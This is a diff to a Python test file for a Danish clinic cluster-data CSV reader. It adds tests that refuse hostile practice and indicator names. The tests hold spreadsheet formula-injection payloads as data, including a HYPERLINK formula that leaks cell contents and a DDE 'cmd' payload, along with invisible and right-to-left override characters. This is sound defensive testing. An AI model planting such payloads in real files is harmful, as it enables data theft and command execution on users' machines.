@@ -21,7 +21,7 @@ from small_cluster_file import EXAMPLE, PRACTICES
 from calculators.cluster_file.format import CLUSTER_ID, ClusterFile, Indicator, Practice, anonymous_labels
 from calculators.cluster_file.read import read_cluster_file
 from calculators.cluster_file.write import write_cluster_file
-from calculators.csv_writer import BOM
+from calculators.csv_writer import BOM, starts_a_formula
 from calculators.errors import InputError
 from calculators.period import Period
 
@@ -227,7 +227,7 @@ def test_hand_edited_figures_are_noticed():
     number = line_number(text, "video;")
     expect_error(text.replace(";14021;32,4", ";14021;42,4"), f"linje {number}", "passer ikke")
     expect_error(text.replace(";14021;32,4", ";1000;2,3"), "klyngens antal for «Videokonsultationer» er større")
-    expect_error(text.replace("Praksis B;", "Praksis A;"), "«Praksis A» er tomt eller står to gange")
+    expect_error(text.replace("Praksis B;", "Praksis A;"), "«Praksis A» står to gange")
     expect_error(text.replace("Regionens praksis;56", "Regionens praksis;3"), "regionen har færre praksis")
 
 
@@ -265,10 +265,10 @@ def test_fewer_than_five_practices_refused():
 
 # ----------------------------------------------------------------------------------------- property tests
 
-NAMES = (
-    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\n"), min_size=1, max_size=30)
+NAMES = (  # any name the reader accepts: no invisible characters, nothing a spreadsheet runs as a formula
+    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Cf")), min_size=1, max_size=30)
     .map(str.strip)
-    .filter(bool)
+    .filter(lambda name: name and not starts_a_formula(name))
 )
 
 
@@ -277,7 +277,10 @@ def cluster_files(draw):
     n_indicators = draw(st.integers(1, 4))
     ids = draw(
         st.lists(
-            st.from_regex(r"[a-z0-9-]{1,10}", fullmatch=True), min_size=n_indicators, max_size=n_indicators, unique=True
+            st.from_regex(r"[a-z0-9][a-z0-9-]{0,9}", fullmatch=True),
+            min_size=n_indicators,
+            max_size=n_indicators,
+            unique=True,
         )
     )
     n_practices = draw(st.integers(5, 40))
@@ -296,7 +299,7 @@ def cluster_files(draw):
         for i, id_ in enumerate(ids)
     )
     return ClusterFile(
-        pack=draw(st.from_regex(r"[a-z0-9-]{1,20}", fullmatch=True)),
+        pack=draw(st.from_regex(r"[a-z0-9][a-z0-9-]{0,19}", fullmatch=True)),
         pack_name=draw(NAMES),
         period=draw(
             st.tuples(st.dates(datetime.date(2000, 1, 1)), st.integers(0, 3000)).map(
@@ -351,3 +354,53 @@ def test_property_any_text_is_read_or_refused_in_danish(text):
         read_cluster_file("MidtKraft klyngedatafil;version 2\r\n" + text)
     except InputError as error:
         assert str(error).startswith("Klyngedatafilen")
+
+
+# ------------------------------------------------------------------------------------------- hostile files
+
+
+@pytest.mark.parametrize(
+    ("label", "message"),
+    [
+        ('=HYPERLINK("http://127.0.0.2/?d="&B2;"Klik")', "begynder med «=», som et regneark læser som en formel"),
+        ("=cmd|' /C calc'!A0", "begynder med «=»"),
+        ("+1+1", "begynder med «+»"),
+        ("-2+3", "begynder med «-»"),
+        ("@SUM(A1)", "begynder med «@»"),
+        ("Praksis\u200bB", "usynligt tegn (U+200B)"),
+        ("Praksis \u202eA gnp.exe", "usynligt tegn (U+202E)"),
+        ("P" * 81, "er 81 tegn langt; et navn har højst 80 tegn"),
+    ],
+)
+def test_hostile_practice_names_are_refused(label, message):
+    text = write_cluster_file(EXAMPLE)
+    number = line_number(text, "Praksis B;")
+    hostile = text.replace("Praksis B;", f'"{label.replace(chr(34), chr(34) * 2)}";')
+    expect_error(hostile, f"linje {number}", message)
+
+
+def test_hostile_cluster_and_indicator_names_are_refused():
+    text = write_cluster_file(EXAMPLE)
+    expect_error(text.replace('"Klynge Viborg; Nord"', "=2+2"), "linje 5", "«Klynge» «=2+2» begynder med «=»")
+    number = line_number(text, "video;")
+    expect_error(
+        text.replace(";Videokonsultationer;", ";@Video;"), f"linje {number}", "«Navn» «@Video» begynder med «@»"
+    )
+
+
+def test_a_file_of_far_more_practices_than_a_cluster_has_is_refused_at_once():
+    text = write_cluster_file(EXAMPLE).replace("Antal praksis;5", "Antal praksis;65000")
+    expect_error(text, "klyngen har 65000 praksis. En klynge har højst 500")
+
+
+def test_the_largest_cluster_allowed_is_read():
+    practices = tuple(Practice(f"Praksis {i}", 1000 + i, (1, 2)) for i in range(500))
+    big = ClusterFile(
+        **{
+            **EXAMPLE.__dict__,
+            "practices": practices,
+            "region_practices": 500,
+            "region_listed": sum(p.listed for p in practices),
+        }
+    )
+    assert len(read_cluster_file(write_cluster_file(big)).practices) == 500
